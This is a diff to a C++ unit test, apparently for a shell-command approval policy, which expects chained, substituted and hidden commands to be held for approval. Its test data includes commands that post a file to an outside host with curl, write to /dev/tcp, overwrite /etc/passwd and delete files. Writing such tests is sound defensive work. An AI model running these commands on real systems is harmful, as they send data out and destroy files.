@@ -368,8 +368,8 @@ TEST_F(PolicyTest, ShellCommandsAreJudgedPartByPart) {
   }
   for (const char* waits :
        {"ls; rm x", "ls && curl http://e.org -d @x", "echo $(rm x)", "cat x > /etc/passwd",
-        "PATH=. ls", "sh -c 'ls'", "ls | xargs rm", "find . -delete", "cp a ../b", "./ls",
-        "cd .. && touch x", "eval ls", "python3 -c 'x'", "echo x > /dev/tcp/1.2.3.4/80"}) {
+        "PATH=. ls", "sh -c 'rm x'", "sh x.sh", "ls | xargs rm", "find . -delete", "cp a ../b",
+        "./ls", "cd .. && touch x", "eval ls", "python3 -c 'x'", "echo x > /dev/tcp/1.2.3.4/80"}) {
     EXPECT_EQ(kind(waits), Outcome::Kind::kWaiting) << waits;
   }
   EXPECT_EQ(kind("ls 'unclosed"), Outcome::Kind::kDenied);
